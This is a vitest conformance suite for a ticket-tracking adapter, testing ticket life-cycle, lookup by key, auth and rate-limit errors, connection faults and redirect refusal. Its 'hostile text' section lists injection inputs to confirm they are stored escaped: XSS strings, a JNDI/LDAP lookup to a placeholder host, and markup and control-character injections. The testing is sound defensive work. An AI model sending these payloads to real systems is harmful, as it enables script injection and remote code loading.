import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Block, TicketDraft, TicketErrorKind, TrackingSystem } from '../../src/tickets/ticket-system.ts';
import { startScriptedServer } from './scripted-server.ts';
import { ticketErrorOf } from './ticket-errors.ts';
import type { Fault, RequestPattern, ServerAnswer, StoredTicket, TicketRig } from './ticket-rig.ts';

const KEY = 'dw-7bc23dec0a2dfcfe37338b23a4206113';
const OTHER_KEY = 'dw-594eca7c3440c437e2d43d0f1c7d6212';
const EPOCH = new Date(0);
const DAY_MS = 86_400_000;
const SHORT = { read: 80, write: 80 };

const draft: TicketDraft = {
  title: 'AKS node reboot missing: aks-prod / system',
  severity: 'high',
  body: [
    { kind: 'text', text: 'Reboot the nodes of pool system.' },
    { kind: 'facts', rows: [['Cluster', 'aks-prod']] },
    { kind: 'list', items: ['aks-system-0001', 'aks-system-0002'] },
    { kind: 'commands', lines: ['kubectl drain aks-system-0001 --ignore-daemonsets'] },
    { kind: 'link', label: 'Portal', url: 'https://portal.azure.com/' },
  ],
};
const text = (value: string): Block => ({ kind: 'text', text: value });

function withSignal(): AbortSignal {
  return AbortSignal.timeout(20_000);
}

/** The answer instead of whatever would have come, for good. */
function always(answer: ServerAnswer): Fault {
  return { times: 99, effect: { kind: 'answer', answer } };
}

function once(pattern: RequestPattern, answer: ServerAnswer): Fault {
  return { ...pattern, effect: { kind: 'answer', answer } };
}

function slowDown(retryAfter: string): ServerAnswer {
  return { status: 429, headers: { 'retry-after': retryAfter }, body: { message: 'slow down' } };
}

/** Every method, on a ticket that exists; `id` and `key` are of that ticket. */
const calls: Readonly<Record<string, (system: TrackingSystem, id: string) => Promise<unknown>>> = {
  probe: async (system) => await system.probe(withSignal()),
  findByKey: async (system) => await system.findByKey(KEY, EPOCH, withSignal()),
  create: async (system) => await system.create(draft, OTHER_KEY, withSignal()),
  get: async (system, id) => await system.get(id, withSignal()),
  update: async (system, id) => await system.update(id, { ...draft, title: 'changed' }, KEY, withSignal()),
  comment: async (system, id) => await system.comment(id, 'Still missing.', withSignal()),
  close: async (system, id) => await system.close(id, 'fixed', 'All done.', withSignal()),
};
const writes = ['create', 'update', 'comment', 'close'];

/**
 * The part of the conformance suite (facts: tickets §9) that an adapter must pass by itself: cases 1, 2, 6–13 and 16. What the claim protocol
 * adds has a suite of its own.
 */
export function describeTrackingSystem(name: string, createRig: () => Promise<TicketRig>): void {
  describe(`${name} as a ticket system`, () => {
    let rig: TicketRig;
    let system: TrackingSystem;
    beforeEach(async () => {
      rig = await createRig();
      ({ system } = rig);
    });
    afterEach(async () => {
      await rig.stop();
    });

    /** For the next of several attempts that must not see each other. */
    const renew = async (): Promise<void> => {
      await rig.stop();
      rig = await createRig();
      ({ system } = rig);
    };
    const stored = (id: string): StoredTicket => {
      const ticket = rig.server.tickets().find((candidate) => candidate.id === id);
      if (ticket === undefined) throw new Error(`ticket ${id} is not stored`);
      return ticket;
    };
    const make = async (key = KEY): Promise<string> => (await system.create(draft, key, withSignal())).id;
    const find = async (since = EPOCH) => await system.findByKey(KEY, since, withSignal());
    const sent = ({ method, path }: RequestPattern): number =>
      rig.server.requests.filter((request) => request.method === method && path.test(request.path)).length;
    /** The error of a call that meets these faults, and a look at what must be true of every error. */
    const failing = async (call: string, faults: readonly Fault[], using = system) => {
      const id = await make();
      for (const fault of faults) rig.server.fault(fault);
      const error = await ticketErrorOf(calls[call]?.(using, id) ?? Promise.resolve());

      expect(error.message.length).toBeLessThanOrEqual(500);
      expect(error.message).not.toMatch(/[\r\n]/);
      expect(`${error.message} ${String(error.cause)} ${error.stack ?? ''}`).not.toContain(rig.secret);
      return error;
    };

    describe('1: life-cycle', () => {
      test('a ticket is made, read, changed, commented, closed, read, reopened and read', async () => {
        await system.probe(withSignal());
        const made = await system.create(draft, KEY, withSignal());
        expect(made).toMatchObject({ state: 'open', url: expect.stringMatching(/^https:\/\//) });
        expect(made.closedAs).toBeUndefined();
        expect(made.updatedAt).toEqual(rig.clock.now());
        expect(await system.get(made.id, withSignal())).toEqual(made);
        expect(stored(made.id)).toMatchObject({ title: draft.title, state: 'open', comments: [] });
        expect(stored(made.id).body).toContain('Reboot the nodes of pool system.');

        rig.clock.advance(60_000);
        const changed = { ...draft, title: 'AKS node reboot missing: aks-prod / user', body: [text('Another text.')] };
        await system.update(made.id, changed, KEY, withSignal());
        await system.comment(made.id, 'Still missing after a day.', withSignal());
        expect(stored(made.id)).toMatchObject({ title: changed.title, state: 'open' });
        expect(stored(made.id).body).toContain('Another text.');
        expect(stored(made.id).body).not.toContain('Reboot the nodes');
        expect(stored(made.id).comments.join('\n')).toContain('Still missing after a day.');
        expect((await system.get(made.id, withSignal()))?.updatedAt).toEqual(rig.clock.now());

        await system.close(made.id, 'fixed', 'All nodes rebooted.', withSignal());
        expect(await system.get(made.id, withSignal())).toMatchObject({ state: 'closed', closedAs: 'fixed' });
        expect(stored(made.id).comments.join('\n')).toContain('All nodes rebooted.');

        await system.reopen(made.id, 'Missing again.', withSignal());
        const reopened = await system.get(made.id, withSignal());
        expect(reopened).toMatchObject({ id: made.id, state: 'open' });
        expect(reopened?.closedAs).toBeUndefined();
        expect(stored(made.id).comments.join('\n')).toContain('Missing again.');
        expect(rig.server.tickets()).toHaveLength(1);
      });

      test('making one sends one request that makes it', async () => {
        await make();

        expect(sent(rig.patterns.create)).toBe(1);
      });

      test('closing, reopening and changing twice is no error, and says nothing twice', async () => {
        const id = await make();
        for (const time of ['first', 'second'])
          await system.close(id, 'obsolete', `The cluster is gone (${time}).`, withSignal());
        expect(stored(id).comments.filter((comment) => comment.includes('The cluster is gone'))).toHaveLength(1);
        for (const time of ['first', 'second']) await system.reopen(id, `It is back (${time}).`, withSignal());
        expect(stored(id).comments.filter((comment) => comment.includes('It is back'))).toHaveLength(1);
        await system.update(id, draft, KEY, withSignal());
        await system.update(id, draft, KEY, withSignal());

        expect(stored(id)).toMatchObject({ title: draft.title, state: 'open' });
      });

      test('what is done to a ticket that is gone is an error', async () => {
        const id = await make();
        rig.server.delete(id);

        for (const call of ['update', 'comment', 'close']) {
          expect((await ticketErrorOf(calls[call]?.(system, id) ?? Promise.resolve())).kind).toBe('not-found');
        }
        expect((await ticketErrorOf(system.reopen(id, 'again', withSignal()))).kind).toBe('not-found');
      });

      test.each(['../../1', '1?x=y', '', '..', 'abc', '1/comments'])('the id "%s" leads nowhere', async (id) => {
        const before = rig.server.requests.length;

        const error = await ticketErrorOf(system.comment(id, 'x', withSignal()));

        expect(['not-found', 'invalid']).toContain(error.kind);
        expect(rig.server.requests).toHaveLength(before);
      });
    });

    describe('2: finding', () => {
      test('none', async () => {
        await make(OTHER_KEY);

        expect(await find()).toEqual([]);
      });

      test('one that is open, whatever the time', async () => {
        const id = await make();
        rig.clock.advance(DAY_MS);

        expect(await find(rig.clock.now())).toMatchObject([{ id, state: 'open' }]);
        expect(await find()).toEqual([await system.get(id, withSignal())]);
      });

      test('one that is closed, if it was closed since then', async () => {
        const id = await make();
        rig.clock.advance(DAY_MS);
        const before = rig.clock.now();
        rig.clock.advance(DAY_MS);
        await system.close(id, 'fixed', 'Done.', withSignal());
        rig.clock.advance(DAY_MS);

        expect(await find(before)).toMatchObject([{ id, state: 'closed', closedAs: 'fixed' }]);
        expect(await find(rig.clock.now())).toEqual([]);
      });

      test('two that are open, the oldest first; the other one can be closed as a duplicate', async () => {
        const first = await make();
        rig.clock.advance(1000);
        const second = rig.server.plant({ title: 'another one', key: KEY });

        expect((await find()).map(({ id }) => id)).toEqual([first, second]);
        await system.close(second, 'duplicate', `It is the same as ${first}.`, withSignal());
        expect(await find()).toMatchObject([
          { id: first, state: 'open' },
          { id: second, state: 'closed' },
        ]);
        expect(stored(second).comments.join('\n')).toContain(`It is the same as`);
      });

      test('at most five, and among them the one that is open, however many are closed', async () => {
        for (let generation = 1; generation <= 7; generation += 1) {
          await system.close(await make(), 'obsolete', `Gone (${generation}).`, withSignal());
          rig.clock.advance(1000);
        }
        const id = await make();

        const found = await find();
        expect(found.length).toBeLessThanOrEqual(5);
        expect(found.filter(({ state }) => state === 'open').map((ticket) => ticket.id)).toEqual([id]);
        expect(await find(new Date(rig.clock.now().getTime() + 1))).toMatchObject([{ id }]);
      });

      test('a ticket without the key, or with another one, is nobody’s', async () => {
        const strangers = [
          rig.server.plant({ title: `has ${KEY} in its title` }),
          rig.server.plant({ title: 'has another key', key: OTHER_KEY }),
          rig.server.plant({ title: 'has a longer key', key: `${KEY}0` }),
        ];

        const found = await find().catch(() => []);

        expect(found.filter(({ id }) => strangers.includes(id))).toEqual([]);
      });

      test('a ticket elsewhere with the same key is not adopted', async () => {
        rig.server.plant({ title: 'elsewhere', key: KEY, elsewhere: true });

        expect(await find()).toEqual([]);
      });
    });

    describe('6: a credential that is not good', () => {
      test.each(Object.keys(calls))('%s rejects with auth', async (call) => {
        const answers = [
          { name: '401', answer: { status: 401, body: { message: 'no' } } },
          { name: '403', answer: { status: 403, body: { message: 'denied' } } },
          ...rig.authAnswers,
        ];
        for (const { name: what, answer } of answers) {
          const fresh = rig.connect({});
          expect({ what, kind: (await failing(call, [always(answer)], fresh)).kind }).toEqual({ what, kind: 'auth' });
          await renew();
        }
      });

      test('a wrong one is found out by probe, and makes nothing', async () => {
        const wrong = rig.connect({ credential: `${rig.secret.slice(0, -4)}0000` });

        expect((await ticketErrorOf(wrong.probe(withSignal()))).kind).toBe('auth');
        expect((await ticketErrorOf(wrong.create(draft, KEY, withSignal()))).kind).toBe('auth');
        expect(rig.server.tickets()).toEqual([]);
      });
    });

    describe('7: a ticket that is gone', () => {
      test('is undefined, and probe says whether to believe it', async () => {
        const id = await make();
        rig.server.delete(id);

        expect(await system.get(id, withSignal())).toBeUndefined();
        await system.probe(withSignal());
        rig.server.fault(always({ status: 401 }));
        expect((await ticketErrorOf(system.probe(withSignal()))).kind).toBe('auth');
      });

      test('a failing read is no proof that it is gone', async () => {
        for (const answer of [{ status: 500 }, { status: 404, body: '<html>proxy</html>' }, { status: 503, body: {} }])
          expect((await failing('get', [once(rig.patterns.read, answer)])).kind).toBe('unavailable');
      });
    });

    test.each(writes)('8: %s that is refused shows what the system said', async (call) => {
      for (const { name: what, answer, says } of rig.refusals) {
        const pattern = call === 'create' ? rig.patterns.create : rig.patterns.change;
        // For good: a refusal may be tried once in another way.
        const error = await failing(call, [{ ...once(pattern, answer), times: 99 }]);

        expect({ what, kind: error.kind }).toEqual({ what, kind: 'invalid' });
        expect(error.message).toContain(says);
        await renew();
      }
    });

    describe('9: too many requests', () => {
      test.each(['findByKey', 'create', 'get', 'comment'])('%s says how long to wait', async (call) => {
        const date = new Date(rig.clock.now().getTime() + 90_000).toUTCString();
        const cases = [
          { name: 'seconds', answer: slowDown('30'), retryAfterMs: 30_000 },
          { name: 'a date', answer: slowDown(date), retryAfterMs: 90_000 },
          ...rig.rateAnswers,
        ];
        for (const { name: what, answer, retryAfterMs } of cases) {
          const error = await failing(call, [{ times: 1, effect: { kind: 'answer', answer } }], rig.connect({}));

          expect({ what, kind: error.kind, retryAfterMs: error.retryAfterMs }).toEqual({
            what,
            kind: 'rate-limited',
            retryAfterMs,
          });
        }
      });

      test('without a time it is still that', async () => {
        const error = await failing('create', [once(rig.patterns.create, { status: 429, body: {} })]);

        expect(error.kind).toBe('rate-limited');
        expect(error.retryAfterMs === undefined || error.retryAfterMs > 0).toBe(true);
      });
    });

    test('10: what the system accepts and ignores is found out', async () => {
      expect(rig.ignored.length).toBeGreaterThan(0);
      for (const [index, { name: what }] of [...rig.ignored].entries()) {
        const error = await ticketErrorOf(rig.ignored[index]?.act(rig) ?? Promise.resolve());

        expect({ what, isFound: ['invalid', 'not-found'].includes(error.kind) }).toEqual({ what, isFound: true });
        await renew();
      }
    });

    describe('4 and 11: the connection', () => {
      const effects: readonly (readonly [string, Fault['effect']])[] = [
        ['a reset before the server acted', { kind: 'reset', acts: false }],
        ['a reset after the server acted', { kind: 'reset', acts: true }],
        ['no answer', { kind: 'hang', acts: true }],
        ['more than 1 MB', { kind: 'oversized' }],
        [
          'JSON that ends too early',
          {
            kind: 'change',
            change: (answer) => ({ ...answer, headers: { 'content-type': 'application/json' }, body: '{"id":' }),
          },
        ],
        [
          'a page',
          {
            kind: 'change',
            change: (answer) => ({ ...answer, headers: { 'content-type': 'text/html' }, body: '<html>' }),
          },
        ],
        ['JSON of another shape', { kind: 'change', change: (answer) => ({ ...answer, body: { unexpected: true } }) }],
        ['500', { kind: 'answer', answer: { status: 500, body: { message: 'oops' } } }],
        [
          '503 with Retry-After',
          { kind: 'answer', answer: { status: 503, headers: { 'retry-after': '5' }, body: {} } },
        ],
      ];

      test.each(effects)(
        '%s: a read fails, and the outcome of a create is unknown after one request',
        async (_name, effect) => {
          const fast = rig.connect({ timeouts: SHORT });
          const id = await make();
          rig.server.fault({ ...rig.patterns.read, effect });
          expect((await ticketErrorOf(fast.get(id, withSignal()))).kind).toBe('unavailable');
          rig.server.fault({ ...rig.patterns.find, effect });
          expect((await ticketErrorOf(fast.findByKey(KEY, EPOCH, withSignal()))).kind).toBe('unavailable');

          const before = sent(rig.patterns.create);
          rig.server.fault({ ...rig.patterns.create, effect });
          expect((await ticketErrorOf(fast.create(draft, OTHER_KEY, withSignal()))).kind).toBe('outcome-unknown');
          expect(sent(rig.patterns.create) - before).toBe(1);
        },
      );

      test.each(['update', 'comment', 'close'])('%s whose answer is lost has an unknown outcome', async (call) => {
        const error = await failing(call, [{ ...rig.patterns.change, effect: { kind: 'reset', acts: true } }]);

        expect(error.kind).toBe('outcome-unknown');
      });

      test('a ticket whose making was not answered is found', async () => {
        rig.server.fault({ ...rig.patterns.create, effect: { kind: 'reset', acts: true } });
        await ticketErrorOf(system.create(draft, KEY, withSignal()));

        expect(await find()).toHaveLength(1);
      });

      test('nobody there', async () => {
        const gone = await startScriptedServer(() => ({ status: 200 }));
        await gone.stop();
        const lost = rig.connect({ url: gone.url });

        for (const call of Object.values(calls))
          expect((await ticketErrorOf(call(lost, '1'))).kind).toBe('unavailable');
      });

      test('a caller whose time is over gets an error of the right kind', async () => {
        const error = await ticketErrorOf(system.create(draft, KEY, AbortSignal.abort()));

        expect(error.kind).toBe('unavailable');
        expect(rig.server.tickets()).toEqual([]);
      });
    });

    test.each(['fixed', 'wont-fix', 'duplicate'] as const)('12: closed by a person as %s', async (as) => {
      const id = await make();
      rig.clock.advance(1000);
      rig.server.closeByHand(id, as);

      expect(await system.get(id, withSignal())).toMatchObject({ state: 'closed', closedAs: as });
      expect(await find()).toMatchObject([{ id, state: 'closed', closedAs: as }]);
    });

    test.each(['wont-fix', 'duplicate'] as const)(
      '12: what a person closed as %s is not closed once more',
      async (as) => {
        const id = await make();
        rig.server.closeByHand(id, as);
        await system.close(id, 'fixed', 'Done by us.', withSignal());

        expect(await system.get(id, withSignal())).toMatchObject({ closedAs: as });
        expect(stored(id).comments.join('\n')).not.toContain('Done by us.');
      },
    );

    describe('13: hostile text', () => {
      const hostile = [
        '<script>alert(1)</script>',
        '"><img src=x onerror=alert(1)>',
        '@team',
        '!http://x.test/y.png!',
        '${jndi:ldap://x.test/a}',
        'name\r\nwith\nlines\u2028and\u0000more',
        `lone \ud800 surrogate \udfff`,
        '{{macro}} *bold* _it_ [link](http://x.test) #1 h1. head',
      ];
      const everywhere: TicketDraft = {
        title: hostile.join(' '),
        severity: 'info',
        body: [
          ...hostile.map(text),
          { kind: 'heading', text: hostile.join(' ') },
          { kind: 'list', items: hostile },
          { kind: 'facts', rows: hostile.map((value) => [value, value] as const) },
          { kind: 'link', label: hostile.join(' '), url: 'https://portal.azure.com/' },
        ],
      };

      test('is stored escaped, with the title on one line', async () => {
        const { id } = await system.create(everywhere, KEY, withSignal());
        await system.update(id, everywhere, KEY, withSignal());
        await system.comment(id, hostile.join('\n'), withSignal());
        await system.close(id, 'fixed', hostile.join('\n'), withSignal());
        const { title, body, comments } = stored(id);

        expect(title.length).toBeLessThanOrEqual(255);
        expect(title).toMatch(/^[^\p{Cc}\p{Zl}\p{Zp}]+$/u);
        const [first = '', second = ''] = comments.filter((comment) => comment !== '');
        for (const shown of [body, first, second]) {
          expect(shown.isWellFormed()).toBe(true);
          expect(shown).toContain(rig.escaped.has);
          expect(shown).not.toMatch(/<script|<img|\0/);
          for (const live of rig.escaped.hasNot) expect(shown).not.toContain(live);
        }
      });

      test('of 100 kB is cut', async () => {
        const huge = `${'<b>&!@#*_`'.repeat(10_000)}\ud800`;
        const { id } = await system.create(
          { title: huge, severity: 'low', body: [text(huge), text(huge)] },
          KEY,
          withSignal(),
        );
        await system.comment(id, huge, withSignal());

        expect(stored(id).title.length).toBeLessThanOrEqual(255);
        expect(stored(id).body.length).toBeLessThanOrEqual(33_000);
        expect(stored(id).comments.join('').length).toBeLessThanOrEqual(33_000);
      });

      test('an empty draft still has a title', async () => {
        const { id } = await system.create({ title: ' \n ', severity: 'low', body: [] }, KEY, withSignal());

        expect(stored(id).title.trim()).not.toBe('');
      });
    });

    describe('16: another host', () => {
      test('a redirect is not followed, and nothing is sent there', async () => {
        const elsewhere = await startScriptedServer(() => ({ status: 200, body: {} }));
        for (const status of [301, 302, 307, 308]) {
          const location = `${elsewhere.url}/`;
          for (const call of ['probe', 'findByKey', 'create', 'get']) {
            const fresh = rig.connect({});
            const answer = { status, headers: { location } };
            const error = await failing(call, [{ times: 1, effect: { kind: 'answer', answer } }], fresh);

            const kinds: readonly TicketErrorKind[] = ['invalid', 'auth'];
            expect(kinds).toContain(error.kind);
          }
        }
        expect(elsewhere.requests).toEqual([]);
        await elsewhere.stop();
      });
    });
  });
}
